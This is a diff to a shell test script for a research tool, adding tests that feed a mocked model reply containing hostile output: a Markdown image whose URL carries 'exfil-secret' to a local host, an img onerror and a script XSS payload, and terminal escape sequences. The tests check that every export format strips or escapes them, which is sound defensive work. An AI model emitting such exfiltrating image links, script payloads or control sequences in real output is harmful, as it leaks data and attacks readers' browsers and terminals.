@@ -47,3 +47,18 @@ run rb-dead-pages $RB --no-llm "zzdeadpages question"
 rc_is 1; err_has "no source could be read: all 3 pages failed (2 HTTP errors, 1 unreachable)"
 run rb-refused-pages env -u QUARRY_ALLOW_PRIVATE "$Q" research --home "$RBH" --sources web --no-llm "zzdeadpages question"
 rc_is 1; err_has "all 3 pages failed (3 refused by the address policy)"
+
+# Model-written images, raw HTML and terminal controls: neutralised in
+# Markdown, escaped in HTML, gone from every format.
+start_llm rb-hostile '[{"match":"<finding id=","content":"Selective availability was switched off in May 2000 because its value had shrunk [F1]. ![chart](http://127.0.0.1:9/?d=exfil-secret) <img src=x onerror=alert(1)> <script>alert(2)</script> \u001b]0;pwned\u0007\u001b[31mred\u009b0m done.\n"},{"auto":"research"}]'
+run rb-hostile-md env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache "$RBQ"
+rc_is 0; out_has "(image not shown: chart)"; out_lacks "exfil-secret"; out_lacks "<img"; out_lacks "<script"
+out_has "&lt;img src=x"
+if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$TMP/out"; then bad "control characters in the report"; else ok; fi
+if grep -q "$(printf '\302\233')" "$TMP/out"; then bad "C1 control in the report"; else ok; fi
+RBN=$("$Q" runs ls --home "$RBH" | awk 'NR>1 {print $1}' | sort -n | tail -1)
+run rb-hostile-html "$Q" runs export "$RBN" --home "$RBH" -f html
+rc_is 0; out_lacks "<img"; out_lacks "<script>"; out_has "&lt;img src=x"
+if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$TMP/out"; then bad "control characters in the HTML report"; else ok; fi
+run rb-hostile-json "$Q" runs export "$RBN" --home "$RBH" -f json
+rc_is 0; out_lacks '\u001b'; out_lacks '\u0007'; out_lacks '\u009b'
